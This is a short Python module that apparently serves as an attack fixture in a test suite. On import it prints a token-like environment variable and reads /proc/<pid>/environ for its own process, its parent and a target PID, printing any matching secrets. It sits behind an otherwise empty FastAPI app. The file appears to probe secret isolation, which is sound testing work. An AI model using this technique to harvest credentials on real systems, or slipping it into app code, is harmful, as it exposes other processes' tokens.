"""Attack: look where tokens are kept, and print what is found."""

import contextlib
import os
from pathlib import Path

from fastapi import FastAPI

from .targets import PID, VARIABLE, acted

acted("import")
print(os.environ.get(VARIABLE, "nothing of interest"))
for process in ("self", os.getppid(), PID):
    with contextlib.suppress(OSError):
        text = Path(f"/proc/{process}/environ").read_text()
        print(*(each for each in text.split("\0") if each.startswith(VARIABLE)))
app = FastAPI()
